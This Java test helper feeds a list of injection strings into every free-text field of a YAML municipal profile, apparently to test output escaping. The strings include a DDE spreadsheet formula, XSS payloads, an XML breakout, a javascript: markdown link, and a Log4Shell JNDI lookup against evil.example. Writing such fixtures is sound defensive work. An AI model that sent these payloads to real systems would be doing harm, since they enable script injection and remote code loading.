package de.ratwerk.faults;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import tools.jackson.databind.json.JsonMapper;

/** Words that want to be more than words, and profiles that hold them wherever a profile takes any. */
final class Harm {
    /** Nothing is wrong with these. */
    static final String NONE = "Musterstadt";

    /** Formulas, markup of every kind, templates. */
    static final List<String> WORDS = List.of(
            "=cmd|'/C calc'!A0",
            "=HYPERLINK(\"http://evil.example\";\"Rathaus\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "'=1+1",
            "<script>alert(1)</script><img src=x onerror=alert(2)>",
            "\"><svg onload=alert(3)>' onmouseover='alert(4)",
            "]]></w:t></text><evil xmlns=\"urn:x\"/>&lol;<!-- <![CDATA[",
            "[klick](javascript:alert(5)) ![x](//evil.example/x) **fett** `a` | b | # <b>",
            "{{Titel}} {{Bericht}} ${jndi:ldap://evil.example/a} #{7*7} %s%n");

    private Harm() {}

    /** A profile whose every free text is the words. */
    static String profile(String words) {
        String quoted = JsonMapper.shared().writeValueAsString(words);
        return """
            schema: ratwerk.profile/1
            asOf: 2026-10-01
            municipality:
              name: {value: %1$s, source: %1$s, note: %1$s}
              population: {value: 48210, source: %1$s, note: %1$s}
            data:
              instruments:
                inventory: {value: none, source: %1$s, note: %1$s}
            strategy:
              status: {value: none, source: %1$s, note: %1$s}
            """.formatted(quoted);
    }

    static Path file(Path folder, String words) {
        try {
            return Files.writeString(folder.resolve("profile.yaml"), profile(words));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
